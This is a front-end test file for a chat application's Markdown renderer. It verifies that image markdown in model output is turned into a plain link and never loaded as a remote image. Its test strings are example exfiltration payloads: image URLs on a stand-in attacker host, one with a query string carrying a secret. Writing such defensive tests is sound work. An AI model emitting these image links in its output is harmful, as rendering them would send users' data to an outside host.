import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';

import { Markdown } from '@/features/chat/components/markdown';

describe('Markdown', () => {
  it('never loads a remote image from model output, and links it instead', () => {
    const { container } = render(
      <Markdown text={'Look: ![secret chart](https://attacker.example/x.png?data=s3cr3t)'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: /secret chart/ });
    expect(link).toHaveAttribute('href', 'https://attacker.example/x.png?data=s3cr3t');
    expect(link).toHaveAttribute('rel', 'noreferrer noopener nofollow');
  });

  it('shows an image with another scheme as text only', () => {
    const { container } = render(<Markdown text={'![x](//attacker.example/y.png)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')).toBeNull();
  });
});
